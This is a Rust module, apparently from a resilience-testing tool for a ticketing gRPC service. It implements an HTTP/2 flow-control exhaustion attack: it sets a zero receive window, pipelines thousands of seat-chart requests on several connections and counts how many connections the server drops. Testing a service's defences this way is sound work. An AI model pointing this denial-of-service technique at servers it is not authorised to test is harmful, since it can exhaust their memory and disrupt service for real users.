//! Replies that nobody reads.

use encore_proto::catalog::v1::GetSeatChartRequest;
use prost::Message;
use tokio_util::sync::CancellationToken;

use super::{Target, on_connections};
use crate::attack::wire::{DATA, END_HEADERS, END_STREAM, HEADERS, beginning, frame, head, message};

const CONNECTIONS: usize = 4;
const CALLS: u32 = 5_000;

pub(super) async fn run(target: Target, stop: CancellationToken) -> String {
    let asked = GetSeatChartRequest { performance_id: target.performance.clone(), ..GetSeatChartRequest::default() };
    let (head, body) = (head("encore.catalog.v1.CatalogService/GetSeatChart"), message(&asked.encode_to_vec()));
    // The window lets no byte of a reply through.
    let mut bytes = beginning(0);
    for stream in (1..).step_by(2).take(CALLS as usize) {
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &head));
        bytes.extend(frame(DATA, END_STREAM, stream, &body));
    }
    let ended = on_connections(CONNECTIONS, &target, bytes, &stop).await;
    format!("{ended} connections ended by the server")
}
